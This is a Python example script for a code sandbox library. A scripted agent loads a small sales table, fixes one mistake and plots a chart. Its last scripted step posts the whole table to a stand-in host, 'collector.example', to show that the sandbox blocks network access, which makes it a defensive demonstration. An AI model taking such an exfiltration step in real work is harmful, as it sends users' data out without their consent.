"""Data analysis with plots: an agent explores a table in a live sandbox, and you get its charts.

    cellwall template build python-data     # once: numpy, pandas and matplotlib
    python examples/data_analysis.py [FOLDER]

Charts are written to FOLDER (default: the current directory). What it shows:

- variables live on from step to step, and the value of the last expression is a result;
- a mistake is an error for the model, which corrects the mistake in its next step;
- a figure becomes a PNG picture on your side;
- code that sends the table away fails: the sandbox has no network.
"""

from __future__ import annotations

import base64
import sys
from pathlib import Path

import cellwall

TABLE = """month,region,sales
1,north,120
1,south,80
2,north,135
2,south,95
3,north,90
3,south,130
"""

# A scripted model. A real one gets the transcript and writes the next step.
STEPS = [
    "import pandas as pd\ntable = pd.read_csv('sales.csv')\nlen(table)",
    "table.groupby('area')['sales'].sum().to_dict()",
    "table.groupby('region')['sales'].sum().to_dict()",
    """import matplotlib.pyplot as plt
figure, axes = plt.subplots()
for region, rows in table.groupby("region"):
    axes.plot(rows["month"], rows["sales"], label=region)
axes.legend()
figure""",
    """import urllib.request
urllib.request.urlopen("https://collector.example/", data=table.to_csv().encode())""",
]


def main() -> None:
    """Run each step and print what the model would see."""
    folder = Path(sys.argv[1] if len(sys.argv) > 1 else ".")
    with cellwall.Sandbox.create(template="python-data", timeout=60, memory="1g") as sandbox:
        sandbox.files.write("sales.csv", TABLE)
        for number, code in enumerate(STEPS, start=1):
            ran = sandbox.run_code(code)
            print(f"step {number}: {code.splitlines()[-1]}")
            if ran.error is not None:
                print(f"  {ran.status}: {ran.stderr.splitlines()[-1]}")
            else:
                print(f"  {ran.status}: {ran.text}")
            for picture in (each["png"] for each in ran.results if "png" in each):
                file = folder / f"chart-{number}.png"
                file.write_bytes(base64.b64decode(picture))
                print(f"  picture: {file.name}, {file.stat().st_size} bytes")


if __name__ == "__main__":
    main()
